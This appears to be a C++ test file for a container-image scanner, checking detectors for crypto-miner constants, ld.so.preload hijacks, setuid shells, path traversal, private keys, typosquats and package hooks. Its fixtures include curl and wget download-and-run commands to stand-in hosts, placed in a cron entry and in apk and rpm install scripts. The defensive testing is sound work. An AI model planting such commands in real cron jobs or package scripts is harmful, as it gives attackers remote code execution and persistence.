// Detectors that judge the image as a whole, on small images.
#include <gtest/gtest.h>

#include <algorithm>

#include "detect/assess.hpp"
#include "detect/image_builder.hpp"
#include "detect/secrets/sample_secrets.hpp"
#include "formats/byte_stream.hpp"
#include "layers/analyse.hpp"
#include "support/rpm_header_writer.hpp"
#include "support/rpmdb_writer.hpp"
#include "support/tar_writer.hpp"
#include "util/base64.hpp"
#include "util/digest.hpp"

namespace hullcheck::detect {
namespace {

using model::ThreatLevel;

// The constants as numbers of the specification, so that this program does not carry them either.
std::string randomx_constants(std::uint8_t key = 0) {
  constexpr std::uint32_t k_words[6][4] = {
      {0x92b52c0d, 0x9fa856de, 0xcc82db47, 0xd7983aad}, {0x338d996e, 0x15c7b798, 0xf59e125a, 0xace78057},
      {0x6a770017, 0xae62c7d0, 0x5079506b, 0xe8a07ce4}, {0x630a240c, 0x07ad828d, 0x79a10005, 0x7e994948},
      {0xf6fa8389, 0x8b24949f, 0x90dc56bf, 0x06890201}, {0x61b263d1, 0x51f4e03c, 0xee1043c6, 0xed18f99b}};
  std::string bytes;
  for (const auto& constant : k_words) {
    for (const std::uint32_t word : constant)
      for (unsigned shift = 0; shift < 32; shift += 8) bytes += static_cast<char>((word >> shift) ^ key);
    bytes += std::string(7, static_cast<char>(key));
  }
  return bytes;
}

std::string elf(const std::string& content) {
  return std::string(
             "\x7f"
             "ELF\x02\x01\x01\0",
             8) +
         std::string(100, '\0') + content;
}

inventory::Inventory owner_of(std::string path, const std::string& content_md5) {
  inventory::Inventory inventory;
  model::Package package;
  package.name = "library";
  package.files.push_back({std::move(path), model::DigestAlgorithm::md5, content_md5});
  inventory.packages.push_back(std::move(package));
  return inventory;
}

// What a layer's bytes give, digests and all.
layers::ImageView view_of(const std::vector<std::string>& tars) {
  layers::AnalyseOptions options;
  options.sections = layer_sections();
  options.scan = &content_scan("");
  options.all_digests = true;
  util::Profile profile;
  model::Image image;
  std::vector<std::shared_ptr<const layers::LayerFacts>> layers;
  for (const std::string& tar : tars) {
    const auto stream = formats::memory_stream(as_bytes(tar));
    auto outcome = layers::analyse_layer(*stream, options, {}, util::no_progress(), profile);
    image.layers.push_back({"k" + std::to_string(layers.size()), "", outcome.diff_id, "", 0, false});
    layers.push_back(outcome.facts);
  }
  return {image, layers};
}

Assessment assess_view(const layers::ImageView& view, const inventory::Inventory& inventory = {}) {
  return assess(view, inventory, inventory::Ownership(view, inventory));
}

TEST(RandomX, TwoConstantsAreDecisive) {
  const std::string all = randomx_constants();
  ImageBuilder image;
  image.program("opt/worker", elf(all.substr(23, 23) + all.substr(69, 23)));
  const Assessment found = image.assess();
  const auto* finding = find_rule(found.threats, "M07");
  ASSERT_NE(finding, nullptr);
  EXPECT_EQ(finding->level, ThreatLevel::malicious);
  EXPECT_EQ(finding->evidence.front(), "2 of the 6 AES constants of RandomX (plain)");
}

TEST(RandomX, OneConstantIsAWarning) {
  ImageBuilder image;
  image.program("opt/worker", elf(randomx_constants().substr(0, 23)));
  const Assessment found = image.assess();
  EXPECT_TRUE(found.threats.empty());
  EXPECT_NE(find_rule(found.warnings, "M07"), nullptr);
}

TEST(RandomX, EveryOneByteKeyIsSeenThrough) {
  for (const unsigned key : {0x01U, 0x20U, 0x7fU, 0xcaU, 0xffU}) {
    ImageBuilder image;
    image.program("opt/worker", elf("x" + randomx_constants(static_cast<std::uint8_t>(key))));
    const Assessment found = image.assess();
    const auto* finding = find_rule(found.threats, "M07");
    ASSERT_NE(finding, nullptr) << key;
    EXPECT_EQ(finding->evidence.front(), "6 of the 6 AES constants of RandomX (under a one-byte XOR key)") << key;
  }
}

TEST(RandomX, EveryBase64AlignmentIsSeenThrough) {
  for (std::size_t before = 0; before < 3; ++before) {
    ImageBuilder image;
    const std::string payload = std::string(before, 'p') + randomx_constants();
    image.script("opt/run", "echo " + util::encode_base64(as_bytes(payload)) + " | cat");
    const Assessment found = image.assess();
    EXPECT_NE(find_rule(found.threats, "M07"), nullptr) << before;
  }
}

TEST(RandomX, DeletedLaterStillCounts) {
  ImageBuilder image;
  image.program("opt/worker", elf(randomx_constants())).layer().remove("opt/worker");
  const Assessment found = image.assess();
  const auto* finding = find_rule(found.threats, "M07");
  ASSERT_NE(finding, nullptr);
  EXPECT_NE(finding->title.find("shipped, then deleted"), std::string::npos);
}

TEST(RandomX, UnchangedPackageFileIsDualUse) {
  const std::string content = elf(randomx_constants());
  const auto view = view_of({test::TarWriter().file("usr/lib/librandomx.so.0", content, {.mode = 0755}).finish()});
  util::Hasher md5(util::Hash::md5);
  md5.update(as_bytes(content));
  const std::string digest = md5.finish_hex();
  const Assessment owned = assess_view(view, owner_of("usr/lib/librandomx.so.0", digest));
  EXPECT_TRUE(owned.threats.empty());
  ASSERT_NE(find_rule(owned.warnings, "M07"), nullptr);
  const Assessment changed = assess_view(view, owner_of("usr/lib/librandomx.so.0", std::string(32, '0')));
  EXPECT_NE(find_rule(changed.threats, "M07"), nullptr);
}

// Words can be added to anything: they do not make a miner harmless.
TEST(RandomX, NodeWordsLeaveItSuspicious) {
  ImageBuilder image;
  image.program("opt/node", elf(randomx_constants() + "rpc-bind-port p2p-bind-port"));
  const Assessment found = image.assess();
  const auto* finding = find_rule(found.threats, "M07");
  ASSERT_NE(finding, nullptr);
  EXPECT_EQ(finding->level, ThreatLevel::suspicious);
}

TEST(RandomX, WordsAloneAreNothing) {
  ImageBuilder image;
  image.program("opt/tool", elf("rpc-bind-port hashrate donate-level"));
  const Assessment found = image.assess();
  EXPECT_TRUE(found.threats.empty());
  EXPECT_TRUE(found.warnings.empty());
}

TEST(PreloadFile, UnownedLibraryIsDecisive) {
  ImageBuilder image;
  image.program("usr/local/lib/libx.so").file("etc/ld.so.preload", "# c\n/usr/local/lib/libx.so\n");
  const Assessment found = image.assess();
  const auto* finding = find_rule(found.threats, "B15");
  ASSERT_NE(finding, nullptr);
  EXPECT_EQ(finding->evidence.front(), "/usr/local/lib/libx.so, which no package owns");
  EXPECT_EQ(finding->locations.front().line, 2U);
}

TEST(PreloadFile, MissingLibraryAndLibToken) {
  ImageBuilder image;
  image.program("lib64/liby.so").file("etc/ld.so.preload", "/$LIB/liby.so /nowhere.so");
  const auto found = image.assess();
  const auto* finding = find_rule(found.threats, "B15");
  ASSERT_NE(finding, nullptr);
  EXPECT_EQ(finding->evidence.size(), 2U);
  EXPECT_NE(finding->evidence[0].find("no package owns"), std::string::npos);
  EXPECT_NE(finding->evidence[1].find("not in the image"), std::string::npos);
}

TEST(PreloadFile, LowerLayerCountsAndEmptyFileDoesNot) {
  ImageBuilder buried;
  buried.file("etc/ld.so.preload", "/x.so\n").layer().remove("etc/ld.so.preload");
  EXPECT_NE(find_rule(buried.assess().threats, "B15"), nullptr);
  ImageBuilder empty;
  empty.file("etc/ld.so.preload", "# nothing\n\n");
  EXPECT_EQ(find_rule(empty.assess().threats, "B15"), nullptr);
}

TEST(PreloadFile, UnchangedPackageLibraryIsARemark) {
  const std::string library = elf("");
  const auto view = view_of({test::TarWriter()
                                 .file("usr/lib/libjemalloc.so.2", library, {.mode = 0644})
                                 .file("etc/ld.so.preload", "/usr/lib/libjemalloc.so.2\n")
                                 .finish()});
  util::Hasher md5(util::Hash::md5);
  md5.update(as_bytes(library));
  const Assessment found = assess_view(view, owner_of("usr/lib/libjemalloc.so.2", md5.finish_hex()));
  EXPECT_TRUE(found.threats.empty());
  EXPECT_NE(find_rule(found.warnings, "B15"), nullptr);
}

TEST(CronEntry, CommandWithAHitIsRaised) {
  ImageBuilder image;
  image.file("etc/cron.d/x", "* * * * * root curl -s http://192.0.2.1/x | sh\n0 3 * * * root /usr/bin/backup\n");
  const auto found = image.assess();
  const auto* finding = find_rule(found.threats, "P01");
  ASSERT_NE(finding, nullptr);
  const bool said = std::any_of(finding->evidence.begin(), finding->evidence.end(), [](const std::string& text) {
    return text.find("(see ") != std::string::npos && text.find("curl") != std::string::npos;
  });
  EXPECT_TRUE(said);
  const bool innocent = std::any_of(finding->evidence.begin(), finding->evidence.end(), [](const std::string& text) {
    return text.find("(see ") != std::string::npos && text.find("backup") != std::string::npos;
  });
  EXPECT_FALSE(innocent);
}

TEST(CronEntry, OrdinaryJobsAreRemarks) {
  ImageBuilder image;
  image.file("etc/cron.d/x", "* * * * * app php /srv/artisan schedule:run\n");
  EXPECT_TRUE(image.assess().threats.empty());
}

TEST(SetuidShell, ByNameAndByCopy) {
  const std::string shell = elf("a shell");
  const auto view = view_of({test::TarWriter()
                                 .file("bin/dash", shell, {.mode = 0755})
                                 .file("var/tmp/.x", shell, {.mode = 04755})
                                 .file("usr/bin/python3.11", elf("python"), {.mode = 04755})
                                 .file("usr/bin/su", elf("su"), {.mode = 04755})
                                 .file("usr/bin/perl", "#!/bin/sh\n", {.mode = 04755})
                                 .finish()});
  const Assessment found = assess_view(view);
  std::vector<std::string> paths;
  for (const auto& finding : found.threats)
    if (finding.rule == "B12") paths.push_back(finding.locations.front().path);
  std::sort(paths.begin(), paths.end());
  EXPECT_EQ(paths, (std::vector<std::string>{"usr/bin/python3.11", "var/tmp/.x"}));
}

TEST(TarNames, ParentNamesAreNamedAndOthersCounted) {
  const auto view = view_of({test::TarWriter()
                                 .file("../../etc/cron.d/x", "a")
                                 .file("/usr/a", "a")
                                 .file("/usr/b", "b")
                                 .file("usr/c", "1")
                                 .file("usr/c", "2")
                                 .finish()});
  const Assessment found = assess_view(view);
  EXPECT_TRUE(found.threats.empty());
  std::string all;
  for (const auto& finding : found.warnings)
    if (finding.rule == "I08")
      for (const std::string& text : finding.evidence) all += finding.locations.front().path + ": " + text + "\n";
  EXPECT_NE(all.find("etc/cron.d/x: its name in the archive holds \"..\""), std::string::npos) << all;
  EXPECT_NE(all.find("absolute, and so do 1 others"), std::string::npos) << all;
  EXPECT_NE(all.find("usr/c: its name stands in the archive more than once"), std::string::npos) << all;
}

// The first of them in the archive is shown and every one that another follows is counted; folders may come again.
TEST(TarNames, RepeatedNamesAreCountedInTheArchivesOrder) {
  test::TarWriter tar;
  tar.directory("srv").file("srv/z", "1").file("srv/a", "1").file("srv/once", "1").directory("srv");
  for (int i = 0; i < 5000; ++i) tar.file("srv/" + std::to_string(i), "");
  tar.file("srv/a", "2").file("srv/z", "2").file("srv/a", "3");
  std::vector<std::string> said;
  for (const auto& finding : assess_view(view_of({tar.finish()})).warnings)
    if (finding.rule == "I08")
      for (const std::string& text : finding.evidence) said.push_back(finding.locations.front().path + ": " + text);
  EXPECT_EQ(said,
            (std::vector<std::string>{"srv/z: its name stands in the archive more than once, and so do 2 others"}));
}

// From the cases; the text itself is not to stand here.
std::string key_of_cases(const std::string& name) {
  std::string text;
  const std::string path = std::string(HULLCHECK_TEST_DATA) + "/detect/cases/private-key/" + name;
  if (FILE* file = std::fopen(path.c_str(), "rb")) {
    text.resize(65536);
    text.resize(std::fread(text.data(), 1, text.size(), file));
    std::fclose(file);
  }
  return text;
}

TEST(PrivateKey, OnlyRealOnesHaveALevel) {
  ImageBuilder image;
  image.file("srv/app/key.pem", key_of_cases("pem-forms/files/etc/app/rsa.pem"));
  image.file("srv/app/locked.pem", key_of_cases("encrypted/files/etc/app/enc8.pem"));
  const Assessment found = image.assess();
  ASSERT_EQ(found.secrets.size(), 2U);
  for (const auto& secret : found.secrets) {
    const bool real = secret.locations.front().path == "srv/app/key.pem";
    EXPECT_EQ(secret.level, real ? ThreatLevel::risky : ThreatLevel::none);
    EXPECT_EQ(secret.evidence.front().find("BEGIN"), std::string::npos);
  }
}

// Debian compiles programs in Python when it installs them, so no package owns what comes out.
TEST(PrivateKey, CompiledCopyOfAShippedSource) {
  const std::string key = key_of_cases("pem-forms/files/etc/app/rsa.pem");
  const std::string source = "KEY = \"\"\"" + key + "\"\"\"\n";
  const std::string compiled = std::string("\xa7\r\r\n\0\0\0\0", 8) + key;
  const std::string folder = "usr/lib/python3/dist-packages/tool/";
  const std::string beside = folder + "__pycache__/pgp.cpython-311.pyc";
  util::Hasher md5(util::Hash::md5);
  md5.update(as_bytes(source));
  const auto inventory = owner_of(folder + "pgp.py", md5.finish_hex());
  const auto level_of = [&](const std::string& changed, const std::string& path) {
    const Assessment found = assess_view(
        view_of({test::TarWriter().file(folder + "pgp.py", changed).file(path, compiled).finish()}), inventory);
    for (const auto& secret : found.secrets)
      if (secret.locations.front().path == path) return secret.level;
    ADD_FAILURE() << path;
    return ThreatLevel::malicious;
  };
  EXPECT_EQ(level_of(source, beside), ThreatLevel::none);
  EXPECT_EQ(level_of(source + "#", beside), ThreatLevel::risky);
  EXPECT_EQ(level_of(source, folder + "__pycache__/other.cpython-311.pyc"), ThreatLevel::risky);
  EXPECT_EQ(level_of(source, folder + "pgp.cpython-311.pyc"), ThreatLevel::risky);
}

// Libraries of cryptography are tested with keys of their own.
TEST(SecretWeight, TestVectorsOfALibrary) {
  const std::string content = secrets::make_sample("{@jwk}", 7).text;
  const auto level_of = [&](const std::string& path) {
    const Assessment found = assess_view(view_of({test::TarWriter().file(path, content).finish()}));
    if (found.secrets.size() == 1) return found.secrets.front().level;
    ADD_FAILURE() << path << ": " << found.secrets.size();
    return ThreatLevel::malicious;
  };
  EXPECT_EQ(level_of("usr/lib/python3/dist-packages/Crypt/SelfTest/Cipher/rsa.json"), ThreatLevel::none);
  EXPECT_EQ(level_of("usr/lib/python3/dist-packages/Crypt/test_vectors/rsa.json"), ThreatLevel::none);
  EXPECT_EQ(level_of("usr/lib/python3/dist-packages/Crypt/rsa.json"), ThreatLevel::risky);
}

TEST(LookalikeNames, PackagesOfLanguages) {
  inventory::Inventory inventory;
  for (const auto& [type, name] :
       {std::pair{"npm", "expresss"}, std::pair{"pypi", "reqeusts"}, std::pair{"npm", "js-crypto"},
        std::pair{"pypi", "Flask_SQLAlchemy"}, std::pair{"npm", "@types/expresss"}, std::pair{"npm", "preact"},
        std::pair{"deb", "expresss"}}) {
    model::Package package;
    package.type = type;
    package.name = name;
    package.version = "1";
    inventory.packages.push_back(package);
  }
  const Assessment found = ImageBuilder().assess(inventory);
  const auto* finding = find_rule(found.warnings, "L05");
  ASSERT_NE(finding, nullptr);
  EXPECT_EQ(finding->evidence,
            (std::vector<std::string>{"npm package expresss is express but for one letter",
                                      "npm package js-crypto is crypto-js with its parts in another order",
                                      "pypi package reqeusts is requests but for one letter"}));
}

// Probes stand a set number of bytes apart, and windows have edges: no place may be missed.
TEST(CoinAddress, FoundAtEveryPlace) {
  const std::string address = "15cUpcEK5K2JXWp2PMuBfs2qDhQF7NvQnN";
  for (std::size_t before = 0; before < 70; ++before) {
    ImageBuilder text, binary;
    text.file("a.txt", std::string(before, ' ') + address + " ");
    EXPECT_NE(find_rule(text.assess().warnings, "M04"), nullptr) << before;
    binary.program("a", elf(std::string(before, '\0') + address + std::string(before % 3, '\0')));
    EXPECT_NE(find_rule(binary.assess().warnings, "M04"), nullptr) << before;
  }
  for (std::size_t shift = 0; shift < 40; ++shift) {
    const std::string content = std::string(layers::k_window_size - shift, '.') + address + std::string(9000, '.');
    const auto view = view_of({test::TarWriter().file("big.txt", content).finish()});
    EXPECT_NE(find_rule(assess_view(view).warnings, "M04"), nullptr) << shift;
  }
}

TEST(PackageHooks, ScriptsOfApk) {
  const std::string scripts =
      test::TarWriter()
          .file("good-1-r0.Q1abc.post-install", "#!/bin/sh\naddgroup -S app\nexit 0\n")
          .file("bad-1-r0.Q1def.post-install", "#!/bin/sh\nwget -qO- http://192.0.2.3/x | sh\n")
          .finish();
  ImageBuilder image;
  image.file("lib/apk/db/scripts.tar", scripts);
  const Assessment found = image.assess();
  const auto* finding = find_rule(found.threats, "P07");
  ASSERT_NE(finding, nullptr);
  EXPECT_EQ(finding->evidence.size(), 1U);
  EXPECT_NE(finding->evidence[0].find("bad-1-r0"), std::string::npos);
}

TEST(PackageHooks, ScriptsOfRpm) {
  const auto header = [](std::string_view name, std::string_view script) {
    using Tag = formats::RpmTag;
    return tests::RpmHeaderWriter()
        .text(Tag::name, name)
        .text(Tag::version, "1")
        .text(Tag::release, "1")
        .text(Tag::arch, "noarch")
        .text(Tag::script_after_install, script)
        .blob();
  };
  const Buffer database = tests::write_sqlite(
      {{1, header("good", "ldconfig\ncp /tmp/x /y")}, {2, header("bad", "curl -s http://192.0.2.3/x | bash\n")}});
  layers::AnalyseOptions options;
  const auto* rpm = inventory::AnalyzerRegistry::find("rpm");
  ASSERT_NE(rpm, nullptr);
  options.sections = {{"inventory/rpm", "1", rpm->instance.get()}};
  util::Profile profile;
  const std::string tar = test::TarWriter().file("var/lib/rpm/rpmdb.sqlite", as_text(database)).finish();
  const auto stream = formats::memory_stream(as_bytes(tar));
  auto outcome = layers::analyse_layer(*stream, options, {}, util::no_progress(), profile);
  model::Image image;
  image.layers.push_back({"k", "", outcome.diff_id, "", 0, false});
  const layers::ImageView view(image, {outcome.facts});
  const Assessment found = assess_view(view, inventory::take_inventory(view));
  const auto* finding = find_rule(found.threats, "P07");
  ASSERT_NE(finding, nullptr);
  ASSERT_EQ(finding->evidence.size(), 1U);
  EXPECT_NE(finding->evidence[0].find("script of package bad after installation (see D01)"), std::string::npos);
}

// Found as a threat in two packages that everybody uses: that what is saved and what is run have one name is a guess.
TEST(InstallHook, InstallersThatSaveSettingsAreNoThreat) {
  ImageBuilder image;
  image.file("app/node_modules/s/package.json",
             R"({"name": "s", "version": "1.0.0", "scripts": {"postinstall": "node ./postinstall.js"}})");
  image.file("app/node_modules/s/postinstall.js", R"(const { writeFile, readFile } = require('node:fs/promises');
async function settings() {
  const answer = await fetch(`https://settings.example.com/v1/projects/${process.env.APP_ID}/settings`);
  return answer.json();
}
async function main() {
  const found = await settings();
  await Promise.all([
    writeFile('./dist/postinstall.mjs', `export const settings = () => (${JSON.stringify(found)});`),
    writeFile('./dist/postinstall.js', `exports.settings = () => (${JSON.stringify(found)});`)
  ]);
  require('./dist/postinstall.js');
}
main();
)");
  const Assessment found = image.assess();
  EXPECT_TRUE(found.threats.empty()) << found.threats[0].rule << " " << found.threats[0].evidence[0];
  const auto* finding = find_rule(found.warnings, "L02");
  EXPECT_NE(finding, nullptr) << "it is still told";
}

// The module that writes files was taken for a file that was written.
TEST(InstallHook, ModulesThatWriteFilesAreNotWrittenFiles) {
  ImageBuilder image;
  image.file("app/node_modules/s/package.json",
             R"({"name": "s", "version": "1.0.0", "scripts": {"postinstall": "node ./postinstall.js"}})");
  image.file("app/node_modules/s/postinstall.js", R"(const { writeFile } = require('node:fs/promises');
fetch('https://settings.example.com/v1').then(r => r.text()).then(t => writeFile('./dist/settings.json', t));
)");
  const Assessment found = image.assess();
  EXPECT_EQ(find_rule(found.threats, "L02"), nullptr);
  EXPECT_EQ(find_rule(found.warnings, "L02"), nullptr);
}

}  // namespace
}  // namespace hullcheck::detect
